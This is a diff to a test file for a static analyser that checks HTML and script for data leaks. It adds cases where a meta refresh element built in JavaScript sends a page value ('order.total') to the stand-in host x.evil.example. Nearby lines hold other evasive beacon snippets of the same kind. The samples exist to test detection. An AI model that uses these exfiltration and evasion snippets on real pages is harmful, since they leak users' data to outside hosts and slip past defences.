@@ -268,6 +268,12 @@ EVASIONS = {
                                    " Reflect.apply(leak, null, [flowUi.get('order.total')]);",
     "throw and catch": "try { throw flowUi.get('order.total'); } catch (err) { new Image().src = 'https://x.evil.example/?' + err; }",
     "arguments": "function leak() { new Image().src = 'https://x.evil.example/?' + arguments[0]; } leak(flowUi.get('order.total'));",
+    # A <meta http-equiv=refresh> made in script navigates the block as one in the markup does.
+    "meta refresh made in script": "const m = document.createElement('meta'); m.httpEquiv = 'refresh';"
+                                   " m.content = '0;url=https://x.evil.example/?' + flowUi.get('order.total'); document.head.append(m);",
+    "meta refresh by setAttribute": "const m = document.createElement('meta'); m.setAttribute('http-equiv', 'Refresh');"
+                                    " m.setAttribute('content', `1; URL=https://x.evil.example/${flowUi.get('order.total')}`);"
+                                    " document.head.append(m);",
 }
 
 
@@ -278,6 +284,8 @@ EVASIONS = {
     ("const d = (0, document); d[k]();", "obfuscation.computed-global"),
     ("const w = window; w[k]();", "obfuscation.computed-global"),
     ("const {location: L} = document; L.assign('https://x.evil.example/');", "navigation.self"),
+    ("const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=https://x.evil.example/';",
+     "navigation.self"),
 ])
 def test_rules_see_the_document_and_the_window_through_their_aliases(source, rule):
     assert rule in {f.rule for f in review_static(f"<p></p><script>{source}</script>", file="b.html")}
@@ -287,6 +295,12 @@ def test_rules_see_the_document_and_the_window_through_their_aliases(source, rul
 def test_evasive_spellings_are_followed(name):
     found = rules_of(f"<p></p><script>{EVASIONS[name]}</script>", fields=["order.total"])
     assert ("exfil.state-to-url", "high", ["order.total"], ["x.evil.example"]) in found, found
+
+
+def test_a_meta_that_is_no_refresh_is_no_navigation():
+    source = ("<p></p><script>const m = document.createElement('meta'); m.name = 'description';"
+              " m.content = flowUi.get('order.total'); document.head.append(m);</script>")
+    assert not {rule for rule, *_ in rules_of(source)} & {"navigation.self", "exfil.state-to-url"}
 
 
 def test_a_proxy_trap_returns_what_it_reads():
